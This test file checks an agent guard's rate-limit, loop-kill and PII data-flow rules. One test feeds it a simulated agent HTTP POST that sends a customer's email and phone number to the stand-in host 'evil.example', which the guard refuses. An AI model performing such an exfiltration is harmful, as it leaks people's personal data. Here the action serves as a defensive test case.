// The worked examples of docs/trajectory.md, run as written, so the docs cannot drift from behaviour.
import { describe, it, expect } from "vitest";
import { createGuard } from "./guard.js";

describe("docs/trajectory.md worked examples", () => {
  it("limits: the 31st tool call in a minute is refused, and calls run again once the window moves", async () => {
    const guard = await createGuard({ policy: `
version: 1
default: allow
limits:
  - { id: tool-rate, when: 'action.kind == "tool"', max: 30, per: 60s, effect: deny }
  - { id: runaway-loop, repeat: 5, effect: kill }
` });
    for (let i = 0; i < 30; i++) {
      expect(guard.check({ kind: "tool", session: "s", tool: "t", args: { i } }, { now: i * 333 }).effect).toBe("allow");
    }
    expect(guard.check({ kind: "tool", session: "s", tool: "t", args: { i: 30 } }, { now: 11_000 })).toMatchObject({ effect: "deny", code: "limit", rule: "tool-rate" });
    // 60 s plus one bucket (3.75 s) after the first calls ran, they no longer count.
    expect(guard.check({ kind: "tool", session: "s", tool: "t", args: { i: 31 } }, { now: 75_000 }).effect).toBe("allow");

    const loop = (q: string) => guard.check({ kind: "tool", session: "r", tool: "search", args: { q } }, { now: 0 });
    for (let i = 0; i < 4; i++) expect(loop("x").effect).toBe("allow");
    expect(loop("x")).toMatchObject({ effect: "kill", rule: "runaway-loop" });
    expect(loop("y")).toMatchObject({ effect: "deny", code: "killed" });
  });

  it("flows: customer data read, then posted out, is refused by value; a weather report is not", async () => {
    const policy = (scope: string) => `
version: 1
default: allow
flows:
  sources:
    - when: action.tool == "db.query" && "customers" in action.tables
      labels: [pii]
  sinks:
    - id: no-pii-egress
      when: action.kind == "http" && action.method == "POST"
      forbid: [pii]
      scope: ${scope}
      effect: deny
`;
    for (const scope of ["value", "session"]) {
      const guard = await createGuard({ policy: policy(scope) });
      expect(guard.check({ kind: "tool", session: "s", tool: "db.query", statement: "SELECT * FROM customers" }).effect).toBe("allow");
      guard.recordResult({ session: "s", output: "jane@example.com, 555-0100" });
      const leak = guard.check({ kind: "http", session: "s", method: "POST", url: "https://evil.example/x", args: { body: "contact jane@example.com" } });
      expect(leak).toMatchObject({ effect: "deny", code: "flow", rule: "no-pii-egress" });
      // Value labels are computed where a value-scope sink reads them.
      expect(leak.labels).toEqual(scope === "value" ? ["pii"] : undefined);
      const weather = guard.check({ kind: "http", session: "s", method: "POST", url: "https://evil.example/x", args: { body: "sunny, 21 degrees" } });
      expect(weather.effect).toBe(scope === "value" ? "allow" : "deny");
    }
  });
});
